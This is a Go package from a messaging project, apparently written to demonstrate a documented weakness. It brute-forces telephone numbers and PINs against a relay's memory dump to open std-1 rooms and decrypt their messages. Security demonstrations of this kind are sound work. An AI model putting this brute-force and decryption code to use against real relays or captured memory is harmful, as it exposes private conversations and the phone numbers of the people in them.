// Package dumpattack is an attacker who has a copy of a relay's memory and
// nothing else. It shows what SECURITY.md says of the two protocols: a room of
// std-1 follows from a telephone number, which can be guessed, and one of
// sotto-2 from a code, which can't. The relay must not import it.
package dumpattack

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"math"
	"runtime"
	"slices"
	"sync"

	"sotto/client"
	"sotto/wire"
)

// Region is memory that lay at an address.
type Region struct {
	Address uint64
	Bytes   []byte
}

// Dump is a copy of a process's memory, with an index. It is safe for
// concurrent use.
type Dump struct {
	regions []Region
	// words is a Bloom filter of every 8 bytes that follow each other.
	words []uint64
}

const filterBits = 28 // 32 MiB, which serves dumps of some 50 MB

// New indexes a dump. It keeps the regions, which must not change.
func New(regions []Region) *Dump {
	d := &Dump{regions: regions, words: make([]uint64, 1<<filterBits/64)}
	for _, r := range regions {
		for i := 0; i+8 <= len(r.Bytes); i++ {
			word := binary.LittleEndian.Uint64(r.Bytes[i:])
			if word == 0 {
				continue // most of it
			}
			at, bit := filterBit(word)
			d.words[at] |= bit
		}
	}
	return d
}

func filterBit(word uint64) (at, bit uint64) {
	n := word * 0x9e3779b97f4a7c15 >> (64 - filterBits)
	return n / 64, 1 << (n % 64)
}

// Has reports whether the hash is in the dump, wherever it stands.
func (d *Dump) Has(hash *[32]byte) bool {
	for i := 0; i < len(hash); i += 8 {
		if at, bit := filterBit(binary.LittleEndian.Uint64(hash[i:])); d.words[at]&bit == 0 {
			return false
		}
	}
	return slices.ContainsFunc(d.regions, func(r Region) bool { return bytes.Contains(r.Bytes, hash[:]) })
}

// at returns the size bytes from an address on, or nil.
func (d *Dump) at(address, size uint64) []byte {
	for _, r := range d.regions {
		if from := address - r.Address; address >= r.Address && from < uint64(len(r.Bytes)) && size <= uint64(len(r.Bytes))-from {
			return r.Bytes[from : from+size]
		}
	}
	return nil
}

// Plan is the numbers that a country gives out: a prefix with the country's code,
// digits only, followed by so many digits of any kind.
type Plan struct {
	Prefix string
	Digits int
}

// size is how many numbers there are.
func (p Plan) size() int { return int(math.Pow10(p.Digits)) }

func (p Plan) number(i int) string { return fmt.Sprintf("%s%0*d", p.Prefix, p.Digits, i) }

// Room is a room of std-1 that was opened.
type Room struct {
	Number string
	PINs   []string
	Texts  []string
}

// OpenStd1 tries every number of the plan and, where there is a room, every PIN of
// 4 to 6 digits. It takes all processors.
func (d *Dump) OpenStd1(plan Plan) []Room {
	var mu sync.Mutex
	var rooms []Room // guarded by mu
	var wg sync.WaitGroup
	workers := runtime.GOMAXPROCS(0)
	for w := range workers {
		wg.Go(func() {
			for i := w; i < plan.size(); i += workers {
				number := plan.number(i)
				if room := [32]byte(std1(number, "0").Room()); d.Has(&room) {
					opened := d.openRoom(number)
					mu.Lock()
					rooms = append(rooms, opened)
					mu.Unlock()
				}
			}
		})
	}
	wg.Wait()
	return rooms
}

// openRoom looks for the seats of a room, and for messages where their hashes are.
func (d *Dump) openRoom(number string) Room {
	opened := Room{Number: number}
	var key *client.Key
	for digits := 4; digits <= 6; digits++ {
		pins := Plan{Digits: digits}
		for i := range pins.size() {
			pin := pins.number(i)
			id := std1(number, pin)
			access := id.Access()
			if bearer := sha256.Sum256(access[:]); !d.Has(&bearer) {
				continue
			}
			opened.PINs = append(opened.PINs, pin)
			if key == nil { // slow, so only now
				key = id.Key()
			}
			sender := [32]byte(id.Sender())
			for _, text := range d.messages(&sender, key) {
				if !slices.Contains(opened.Texts, text) {
					opened.Texts = append(opened.Texts, text)
				}
			}
		}
	}
	return opened
}

// std1 derives what std-1 makes of a number and a PIN.
func std1(number, pin string) client.Identity {
	id, err := client.Derive(number, pin)
	if err != nil {
		panic("dumpattack: " + err.Error()) // refuses what is empty only
	}
	return id
}

// messages opens what is pointed to from near the hash of an author, by
// whatever stands near it too and may be the iv: nothing need be known of how the
// relay lays out a message.
func (d *Dump) messages(sender *[32]byte, key *client.Key) (texts []string) {
	const near = 192
	for _, r := range d.regions {
		for from := 0; ; {
			at := bytes.Index(r.Bytes[from:], sender[:])
			if at < 0 {
				break
			}
			at += from
			from = at + 1
			around := r.Bytes[max(0, at-near)&^7 : min(len(r.Bytes), at+near)]
			for i := 0; i+24 <= len(around); i += 8 { // a slice: address, length, capacity
				address, size, space := word(around, i), word(around, i+8), word(around, i+16)
				if size > space || space > 1<<20 {
					continue
				}
				ciphertext := d.at(address, size)
				for j := 0; ciphertext != nil && j+wire.IVSize <= len(around); j++ {
					if text, err := key.Open(client.Sealed{IV: [wire.IVSize]byte(around[j:]), Ciphertext: ciphertext}); err == nil {
						texts = append(texts, string(text))
					}
				}
			}
		}
	}
	return texts
}

func word(b []byte, i int) uint64 { return binary.LittleEndian.Uint64(b[i:]) }
